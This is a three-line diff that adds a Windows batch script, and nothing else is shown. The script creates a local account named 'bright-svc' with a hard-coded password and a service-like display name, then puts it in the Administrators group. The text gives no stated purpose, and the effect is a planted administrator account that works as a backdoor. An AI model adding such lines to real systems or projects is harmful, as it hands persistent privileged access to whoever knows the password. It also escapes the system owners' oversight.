@@ -1,0 +1,3 @@
+@echo off
+net user bright-svc Kept-In-N0-Store /add /fullname:"Bright Service"
+net localgroup Administrators bright-svc /add
